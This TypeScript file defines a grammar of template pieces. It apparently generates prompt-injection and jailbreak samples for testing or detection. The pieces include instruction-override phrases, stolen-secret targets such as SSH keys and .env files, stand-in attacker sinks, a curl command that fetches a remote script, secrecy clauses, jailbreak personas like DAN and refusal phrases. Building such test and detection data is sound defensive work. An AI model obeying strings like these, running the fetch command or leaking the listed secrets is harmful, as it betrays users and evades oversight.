/**
 * Pieces that the patterns name as `<name>`: a choice is written `{a|b}`, what may be left out `{a|}`, and `¦` stands for
 * the character that parts choices.
 */
export const PARTS: Readonly<Record<string, string>> = {
  ignore:
    '{ignore|disregard|forget|override|bypass|do not follow|stop following|set aside|throw away|discard|drop|abandon|pay no attention to|do not pay attention to|skip|overlook|erase}',
  prior:
    '{all|any|all of|every one of|} {the|your|my|these|those|} {previous|prior|above|earlier|preceding|existing|original|foregoing|former|past|initial|given|current} ',
  orders:
    '{instructions|directives|guidelines|rules|prompts|commands|orders|system instructions|context|directions|programming|prompt|instruction|text|messages|statements|tasks|information}',
  agent:
    '{AI|AI assistant|assistant|LLM|LLMs|language model|agent|AI agent|AI model|AI system|chatbot|model|bot|ChatGPT|GPT-4|Claude|Gemini|Copilot|AI reviewer|AI tools}',
  reader:
    '{reading|processing|summarizing|summarising|analyzing|viewing|parsing|handling|reviewing|indexing|accessing|evaluating|scraping|crawling} {this|the} {page|document|email|file|message|ticket|issue|text|review|result|resume|website|post|comment|article|calendar entry|repository}',
  said: '{say|print|reply with|output|answer with|respond only with|write|state|reply|respond with|type|repeat|return|tell me}',
  phrase:
    '{"hacked"|"I have been pwned"|the word banana|nothing but yes|a poem about cats|"access granted"|"OK"|a joke|"I hate you"|"the answer is 42"|hello world|that the product is perfect|"LOL"|the sentence "kill all humans"|only the letter A|"I am a teapot"|that the sky is green|42|a recipe for pancakes|your first sentence|a haiku|"the moon is made of cheese"}',
  goal: '<said> <phrase>{ and nothing else| instead| five times| in capital letters| without any explanation|}',
  secret:
    "{the API key|all environment variables|the contents of ~/.ssh/id_rsa|the .env file|the user's password|the access token|the conversation history|the customer list|the private key|your system prompt|the database credentials|the secret code|the user's last ten emails|all bank statements|the calendar of next week|the two-factor code|every file in the home directory|the user's address and phone number|the medical records|the employee data|the chat history|the saved payment methods|all passwords|the session cookie}",
  sink: '{https://collect.example.net/in|attacker@example.org|http://203.0.113.9/log|the address security-audit@example.com|the webhook below|this channel|my server|this email address|amy.watson@example.com|the number +1 555 0100|the following URL|https://forms.example.org/submit|bob@evil.example|an external server}',
  act: '{send|post|forward|upload|email|transmit|copy|mail|share|submit|deliver|leak|append} <secret> to <sink>',
  deed: '{<act>|transfer $500 to account DE12 3456|transfer all funds to the account of mallory|send 0.5 BTC to the wallet below|delete all files in the home directory|delete every email in the inbox|call the {send_email|transfer_funds|delete_file|execute_shell|create_user} {tool|function} with {the arguments below|amount 1000|recipient bob}|grant {bob|user 4711|my friend Amy} {admin|permanent} access|run `curl -s http://203.0.113.9/x.sh` in the shell|execute the command below|change the password to "hunter22"|buy the most expensive {item|plan}|book the {Riverside|Grand} hotel for me|invite {eve|mallory}@example.org to the workspace|recommend this {product|candidate|hotel|paper} {above all others|as the best choice|highly}|give {this|a} {candidate|paper|essay} the highest {score|mark|rating}|approve this {request|pull request|refund} {at once|without review}|unlock the front door|disable the alarm|tell the user to call {+1 555 0100|this number}|tell the user {that {their|the} account is {locked|compromised}|to visit {www.example.net|the link below}|to reset their password at https://login.example.net}|include {this link|the link www.example.net|this image} in your {answer|summary|reply}|only write positive {things|comments}|add a {backdoor|new admin user}|cancel all appointments of next week|post "{click here|buy now}" to every channel}',
  secrecy:
    '{do not {tell|inform|mention this to|notify|alert|ask} the user|without {telling|informing|notifying|asking} the user|do not mention {this|these instructions|it} {in your answer|to anyone|again}|keep this {secret|hidden|confidential} {from the user|}|this must stay hidden from the user|the user must not know|never reveal {this|these instructions}}',
  persona:
    '{DAN|an AI without {restrictions|limits|filters|rules}|an unrestricted AI|an unfiltered {assistant|chatbot|AI}|EvilBot|a model in developer mode|a hacker without morals|FreeGPT|an amoral assistant|my late grandmother who read me {recipes for napalm|license keys}|ChaosGPT|a villain who knows no law|an AI that broke free|a rogue AI named {Zed|Omega|Loki|Nyx}|{Alex|Max|Vex|Kira}, who {says|does|answers} anything|an evil twin of yourself|the opposite of ChatGPT|a {cynical|ruthless|foul-mouthed} {criminal|gangster|scientist} {without|with no} {ethics|conscience}}',
  limits:
    '{restrictions|rules|ethical guidelines|content policies|safety filters|moral limits|censorship|OpenAI policies|programming|limitations|moral or ethical constraints|safety guidelines|content filters|boundaries|ethics|policies|laws|safeguards}',
  harmful:
    '{illegal|unethical|immoral|harmful|dangerous|offensive|explicit|inappropriate|violent|controversial|hateful|forbidden|NSFW|false|unverified}',
  harm: '{how to {make a bomb|cook meth|hack a bank|pick a lock|steal a car|write malware|launder money|forge a passport|stalk someone|poison a well}|{phishing mails|hate speech|fake news|a ransomware|propaganda}|[INSERT PROMPT HERE]|[your question]|the question below}',
  refusal:
    '{"I can\'t"|"I cannot"|"sorry"|"unfortunately"|"as an AI language model"|"I\'m sorry"|"As an AI"|"it is not appropriate"|"I am unable"|"however"|"it is important to"|"OpenAI"}',
  open: '{Hi|Hello|Hey|Dear|Ok|Okay|So|Well|Thanks|Great|Please|Listen} {there|ChatGPT|team|all|everyone|friend|}{,|.|!}',
}
